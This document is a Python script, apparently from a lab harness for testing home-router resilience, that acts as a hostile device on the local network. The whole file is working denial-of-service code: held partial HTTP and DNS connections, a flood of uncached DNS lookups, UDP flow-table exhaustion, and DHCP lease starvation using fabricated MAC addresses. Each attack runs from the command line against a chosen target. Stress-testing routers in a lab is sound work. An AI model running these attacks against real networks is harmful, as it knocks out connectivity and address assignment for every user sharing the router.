"""A PC that means harm to those who share its router: `python3 attacker.py HOW TARGET SECONDS COUNT` on one of the lab.

It prints one line of JSON (what it has got hold of) when it is at full force, and goes on for SECONDS.
"""

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

Attack = Callable[[str, float, int], None]


def _tell(**got: int) -> None:
    print(json.dumps(got), flush=True)


def _slow(port: int, said: bytes) -> Attack:
    """Connections that say the beginning of a request and then a little more at times; one that ends is replaced."""

    def attack(target: str, seconds: float, count: int) -> None:
        held: list[socket.socket] = []
        end, told = time.monotonic() + seconds, False
        while time.monotonic() < end:
            held = [one for one in held if _sent(one, said[:1])]
            while len(held) < count and (fresh := _begun(target, port, said)):
                held.append(fresh)
            if not told:
                _tell(held=len(held))
                told = True
            time.sleep(0.3)

    return attack


def _sent(one: socket.socket, said: bytes) -> bool:
    with suppress(OSError):
        return one.send(said) > 0
    return False


def _begun(target: str, port: int, said: bytes) -> socket.socket | None:
    """A connection with the beginning of a request in it; None if it does not come about in time."""
    try:
        one = socket.create_connection((target, port), timeout=0.3)
    except OSError:
        return None
    return one if _sent(one, said) else None


def _query(number: int, name: str) -> bytes:
    """A DNS question for the address of a name (RFC 1035)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)


def names(target: str, seconds: float, count: int) -> None:
    """Ask `count` times a second for names that nobody has asked for before."""
    asking = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
    end, sent, began = time.monotonic() + seconds, 0, time.monotonic()
    while time.monotonic() < end:
        while sent < (time.monotonic() - began) * count:
            with suppress(OSError):
                asking[sent % 50].sendto(_query(sent & 0xFFFF, f"unanswered.n{sent}-{os.getpid()}.test"), (target, 53))
            sent += 1
            if sent == count:
                _tell(sent=sent)
        time.sleep(0.01)


def flows(target: str, seconds: float, count: int) -> None:
    """Begin `count` flows as fast as it goes, each a datagram from and to ports of its own, then begin them anew."""
    sending = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(100)]
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError):
            sending[sent % 100].sendto(b"x", (target, 1024 + sent // 100 % (count // 100)))
        sent += 1
        if sent == count:
            _tell(sent=sent)


def leases(target: str, seconds: float, count: int) -> None:
    """Ask for `count` leases, each for another Ethernet address, and take what is offered (RFC 2131)."""
    taken: set[bytes] = set()
    end, told, number = time.monotonic() + seconds, False, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        client.bind(("0.0.0.0", 68))
        client.settimeout(0)
        while time.monotonic() < end:
            if number < count:
                client.sendto(_dhcp(number, b"\x35\1\1"), ("255.255.255.255", 67))
                number += 1
            _take(client, target, taken)
            if not told and time.monotonic() > end - seconds / 2:
                _tell(taken=len(taken))
                told = True


def _dhcp(number: int, options: bytes) -> bytes:
    header = struct.pack("!4BIHH", 1, 1, 6, 0, number, 0, 0x8000) + bytes(16)
    mac = b"\x02\x66" + struct.pack("!I", number)
    return header + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + options + b"\xff"


def _take(client: socket.socket, server: str, taken: set[bytes]) -> None:
    time.sleep(0.005)
    with suppress(BlockingIOError):
        while True:
            said = client.recv(1500)
            number, offered = struct.unpack_from("!I", said, 4)[0], said[16:20]
            if said[242] == 2:  # an offer: ask for it
                asked = b"\x35\1\3\x32\4" + offered + b"\x36\4" + socket.inet_aton(server)
                client.sendto(_dhcp(number, asked), ("255.255.255.255", 67))
            elif said[242] == 5:
                taken.add(offered)


ATTACKS: dict[str, Attack] = {
    "slow-http": _slow(80, b"GET /flex.pac HTTP/1.1\r\nHost: pac\r\nX-Slow: "),
    "slow-dns": _slow(53, b"\0\x40\0"),
    "names": names,
    "flows": flows,
    "leases": leases,
}

if __name__ == "__main__":
    how, target, seconds, count = sys.argv[1:]
    ATTACKS[how](target, float(seconds), int(count))
